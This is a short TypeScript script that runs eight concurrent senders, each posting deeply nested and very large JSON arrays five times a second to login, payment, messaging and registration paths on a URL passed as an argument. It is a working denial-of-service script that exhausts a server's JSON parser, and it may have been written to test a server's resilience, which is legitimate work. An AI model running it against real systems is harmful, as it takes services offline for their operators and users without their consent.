import { request } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';

/** Eight strangers that each send costly bodies 5 times a second to the address in the first argument. */
const [url = ''] = process.argv.slice(2);
const deep = (depth: number) => Buffer.from('['.repeat(depth) + ']'.repeat(depth));
const flat = (bytes: number) => Buffer.from(`[${'[],'.repeat(bytes / 3)}[]]`);
const bodies = [deep(500_000), flat(999_999), deep(30_000), flat(60_000)];
const paths = ['/v1/messages/1', '/v1/auth/login', '/v1/pix/asaas', '/v1/companies/cadastro', '/v1/nothing'];

const send = (nth: number): Promise<void> =>
  new Promise((resolve) => {
    const headers = { 'content-type': 'application/json' };
    const sent = request(`${url}${paths[nth % paths.length]}`, { method: 'POST', headers }, (res) => {
      res.resume().once('close', resolve);
    });
    sent.once('error', () => resolve());
    sent.end(bodies[nth % bodies.length]);
  });

const attack = async (first: number): Promise<never> => {
  for (let nth = first; ; nth++) {
    await send(nth);
    process.send?.(nth);
    await sleep(200);
  }
};
await Promise.all(Array.from({ length: 8 }, (_, first) => attack(first)));
